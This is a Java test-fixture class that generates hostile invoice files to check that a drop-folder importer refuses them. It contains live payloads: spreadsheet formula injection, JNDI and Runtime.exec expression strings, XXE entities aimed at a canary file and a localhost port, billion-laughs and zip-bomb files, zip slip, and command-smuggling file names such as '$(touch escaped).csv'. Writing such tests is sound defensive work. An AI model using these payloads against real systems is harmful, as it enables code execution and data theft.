package io.quittance.cli;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Hostile files for a drop folder, and what must come of each: a verdict, or the codes for which it is refused. */
final class HostileFiles {

    private static final String DEMO = "fixtures/demo/inbox/invoices/";

    /** What a person's spreadsheet must not run. */
    private static final List<String> FORMULAS = List.of(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "=HYPERLINK(\"http://127.0.0.1:PORT/x\"&A1)",
            "=WEBSERVICE(\"http://127.0.0.1:PORT/x\")",
            "=IMPORTXML(\"http://127.0.0.1:PORT/x\")",
            "\uFF1D1+1",
            "'; drop table quittance.invoice; --",
            "${jndi:ldap://127.0.0.1:PORT/x}",
            "#{T(java.lang.Runtime).getRuntime().exec('x')}",
            "__${7*7}__",
            "<script>alert(1)</script>",
            "100%_",
            "a\r\n00:00:00 ERROR forged");

    private final Map<String, byte[]> files = new TreeMap<>();
    private final Map<String, String> expected = new TreeMap<>();
    private final List<String> leftAlone = new ArrayList<>();
    private final Path canary;
    private final int port;
    private final String header;
    private final String row;
    private final String second;

    HostileFiles(Path canary, int port) throws IOException {
        this.canary = canary;
        this.port = port;
        List<String> rows = Files.readAllLines(Program.root().resolve(DEMO + "nl-november.csv"));
        header = rows.get(0);
        row = rows.get(1);
        second = rows.get(2);
        add("good.csv", good(), "ACCEPTED");
        xml();
        json();
        sheets();
        others();
        names();
    }

    byte[] good() {
        return (header + "\n" + row + "\n").getBytes(UTF_8);
    }

    Map<String, String> expected() {
        return expected;
    }

    List<String> leftAlone() {
        return leftAlone;
    }

    static boolean isSomebodys(String formula) {
        return formula.matches(
                "(?s).*(cmd|1\\+1|-2\\+3|127\\.0\\.0\\.1|HYPERLINK\\(\"http|WEBSERVICE|IMPORTXML|SUM\\(A1\\)).*");
    }

    private void xml() throws IOException {
        String ubl = Files.readString(Program.root().resolve(DEMO + "ubl-c1011-re-26-4520.xml"));
        String other = Files.readString(Program.root().resolve(DEMO + "ubl-c1008-pk-2026-201.xml"));
        String url = "http://127.0.0.1:" + port + "/x";
        // 69 to 71
        xml("69.xml", doctype(ubl, "<!ENTITY x SYSTEM '" + canary.toUri() + "'>", "&x;"), "Q101");
        xml("69-http.xml", doctype(ubl, "<!ENTITY x SYSTEM '" + url + "'>", "&x;"), "Q101");
        xml("70.xml", doctype(ubl, "<!ENTITY % p SYSTEM '" + url + "'> %p;", "1"), "Q101");
        xml("70-dtd.xml", ubl.replaceFirst("<Invoice", "<!DOCTYPE Invoice SYSTEM '" + url + "'>\n<Invoice"), "Q101");
        xml("71.xml", doctype(ubl, "<!ENTITY a 'ha'><!ENTITY b '" + "&a;".repeat(99) + "'>", "&b;".repeat(99)), "Q101");
        // 72, 73: nobody follows them
        xml(
                "72.xml",
                numbered(ubl, "72")
                        .replaceFirst(
                                "<cbc:CustomizationID>",
                                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + canary.toUri()
                                        + "' parse='text'/><cbc:CustomizationID>"),
                "ACCEPTED|HELD");
        xml(
                "73.xml",
                numbered(other, "73")
                        .replaceFirst(
                                "<Invoice ",
                                "<Invoice xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:x "
                                        + url + "' "),
                "ACCEPTED|HELD");
        // 74 to 77
        xml("74-deep.xml", ubl.replaceFirst("<cbc:ID>", "<x>".repeat(100_000) + "<cbc:ID>"), "Q103");
        xml("74-text.xml", ubl.replaceFirst("<cbc:ID>", "<cbc:ID>" + "x".repeat(200_000)), "Q103");
        xml("75-utf7.xml", ubl.replace("UTF-8", "UTF-7"), "Q101");
        add("75-utf16.xml", ubl.getBytes(UTF_16LE), "Q101");
        xml("76-nul.xml", ubl.replaceFirst("<cbc:ID>", "<cbc:ID>\u0000"), "Q101");
        xml("76-surrogate.xml", ubl.replaceFirst("<cbc:ID>", "<cbc:ID>&#xD800;"), "Q101");
        xml("77-two-roots.xml", ubl + "<Invoice/>", "Q101");
        xml(
                "77-two-amounts.xml",
                numbered(ubl, "77").replaceFirst("(<cbc:PayableAmount.*</cbc:PayableAmount>)", "$1$1"),
                "Q107");
    }

    private static String doctype(String ubl, String subset, String number) {
        return ubl.replaceFirst("<Invoice", "<!DOCTYPE Invoice [" + subset.replace("$", "\\$") + "]>\n<Invoice")
                .replaceFirst("<cbc:ID>[^<]*", "<cbc:ID>" + number);
    }

    private static String numbered(String ubl, String number) {
        return ubl.replaceFirst("<cbc:ID>[^<]*", "<cbc:ID>H-" + number);
    }

    private void json() {
        text("98-twice.json", "{\"invoiceNumber\": \"1\", \"invoiceNumber\": \"2\"}", "Q101");
        text("98-nan.json", "{\"invoiceNumber\": NaN}", "Q101");
        text("98-deep.json", "[".repeat(100_000), "Q103");
        text("98-digits.json", "{\"totals\": " + "9".repeat(10_000) + "}", "Q103");
        text("98-trailing.json", "{\"invoiceNumber\": \"1\"} x", "Q101");
    }

    private void sheets() throws IOException {
        // 55 to 58, 89 to 94, 97: texts stay texts; nobody of that name is known
        for (int i = 0; i < FORMULAS.size(); i++) {
            String formula = FORMULAS.get(i).replace("PORT", Integer.toString(port));
            add(
                    "55-" + i + ".csv",
                    csv("contractor_name", formula, "invoice_number", "F-" + i, "contractor", "C" + i),
                    "REJECTED");
        }
        add("56-number.csv", csv("invoice_number", "=1+1", "contractor", "=C", "net_amount", "x"), "Q109");
        add("59.csv", csv("description", "x".repeat(32_768)), "Q103");
        byte[] book = workbook();
        add("55-formula.xlsx", workbookWithFormula(), "Q116");
        zip(
                "61-macros.xlsx",
                book,
                "[Content_Types].xml",
                types -> types.replace("sheet.main+xml", "sheet.macroEnabled.main+xml"),
                "Q102");
        zip(
                "63-doctype.xlsx",
                book,
                "xl/sharedStrings.xml",
                texts -> texts.replace("<sst", "<!DOCTYPE x SYSTEM 'http://127.0.0.1:" + port + "/x'><sst"),
                "Q101");
        zip(
                "64-bomb.xlsx",
                book,
                "xl/worksheets/sheet1.xml",
                sheet -> sheet.replace("</worksheet>", "<!--" + " ".repeat(50 << 20) + "--></worksheet>"),
                "Q103");
        zip("86-slip.xlsx", book, "../../../escaped.xml", none -> "<x/>", "REJECTED");
        text("67-renamed.xlsx", header + "\n" + second + "\n", "ACCEPTED|HELD");
        add("67.xlsx", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1}, "Q102");
    }

    private void others() {
        text("76-nul.csv", header + "\n" + row + "\u0000\n", "Q101");
        // the days before the first and after the last one are in no column
        dated("date-none.csv", "0000-01-01", "Q111");
        dated("date-first.csv", "0001-01-01", "HELD|REJECTED");
        dated("date-last.csv", "9999-12-31", "REJECTED");
        text("quotes.csv", header + "\n\"" + row + "\n", "Q106");
        text("pdf.pdf", "%PDF-1.7\nbroken", "Q101");
        text("empty.csv", "", "Q101");
        text("macro.docm", "MZ\u0090 not ours", "Q102");
    }

    private void dated(String name, String day, String outcome) {
        byte[] invoice =
                csv("invoice_number", name, "invoice_date", day, "supply_date", "", "due_date", "", "contract", "");
        add(name, invoice, outcome);
    }

    /** 79 to 85: good contents that nobody knows the supplier of, under names that somebody might obey. */
    private void names() {
        for (String name : List.of(
                "up\\..\\x.csv",
                "CON",
                "NUL.csv",
                "-rf.csv",
                "$(touch escaped).csv",
                "; drop table.csv",
                "%2e%2e%2fx.csv",
                "a\nb.csv",
                "c\r\n00:00:00 ERROR forged.csv",
                "\u001B[31mred\u001B[0m.csv",
                "fdp.\u202Evsc.csv",
                "<script>.csv",
                "=cmd|calc.csv",
                "x".repeat(251) + ".csv")) {
            add(name, csv("invoice_number", "", "description", "name " + files.size()), "Q108");
        }
    }

    private byte[] csv(String... changes) {
        List<String> columns = List.of(header.split(","));
        var cells = new ArrayList<>(List.of(row.split(",", -1)));
        for (int i = 0; i < changes.length; i += 2) {
            cells.set(columns.indexOf(changes[i]), "\"" + changes[i + 1].replace("\"", "\"\"") + "\"");
        }
        return (header + "\n" + String.join(",", cells) + "\n").getBytes(UTF_8);
    }

    private byte[] workbook() throws IOException {
        try (var book = new XSSFWorkbook()) {
            fill(book, "H-86");
            return bytes(book);
        }
    }

    private byte[] workbookWithFormula() throws IOException {
        try (var book = new XSSFWorkbook()) {
            Row filled = fill(book, "H-55");
            int column = List.of(header.split(",")).indexOf("net_amount");
            filled.getCell(column).setCellFormula("11100");
            return bytes(book);
        }
    }

    private Row fill(XSSFWorkbook book, String number) {
        var sheet = book.createSheet("invoices");
        cells(sheet.createRow(0), header.split(","));
        Row filled = sheet.createRow(1);
        cells(
                filled,
                row.replace("2026-0311", number).replace("C1001", "C-nobody").split(",", -1));
        return filled;
    }

    private static void cells(Row target, String... texts) {
        for (int i = 0; i < texts.length; i++) {
            target.createCell(i).setCellValue(texts[i]);
        }
    }

    private static byte[] bytes(XSSFWorkbook book) throws IOException {
        var out = new ByteArrayOutputStream();
        book.write(out);
        return out.toByteArray();
    }

    /** @param part that is changed, or made out of nothing where there is none */
    private void zip(String name, byte[] book, String part, UnaryOperator<String> change, String outcome)
            throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        try (var in = new ZipInputStream(new ByteArrayInputStream(book))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), new String(in.readAllBytes(), UTF_8));
            }
        }
        parts.put(part, change.apply(parts.getOrDefault(part, "")));
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var one : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(one.getKey()));
                zip.write(one.getValue().getBytes(UTF_8));
            }
        }
        add(name, out.toByteArray(), outcome);
    }

    private void xml(String name, String text, String outcome) {
        text(name, text, outcome);
    }

    private void text(String name, String text, String outcome) {
        add(name, text.getBytes(UTF_8), outcome);
    }

    private void add(String name, byte[] bytes, String outcome) {
        files.put(name, bytes);
        expected.put(name.replaceAll("[\\p{Cc}\\p{Cf}]", "?"), outcome);
    }

    void dropInto(Path inbox) throws IOException, InterruptedException {
        for (var file : files.entrySet()) {
            Files.write(inbox.resolve(file.getKey()), file.getValue());
        }
        Files.createSymbolicLink(inbox.resolve("link.csv"), canary);
        Files.createSymbolicLink(inbox.resolve("folder"), canary.getParent());
        Files.createDirectory(inbox.resolve("x.csv"));
        Process pipe = new ProcessBuilder("mkfifo", inbox.resolve("pipe.csv").toString()).start();
        pipe.waitFor();
        Files.writeString(inbox.resolve("..\\x.csv"), header);
        leftAlone.addAll(List.of("link.csv", "pipe.csv", "..\\x.csv"));
        try (var socket = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            socket.bind(UnixDomainSocketAddress.of(inbox.resolve("socket")));
            leftAlone.add("socket");
        }
    }
}
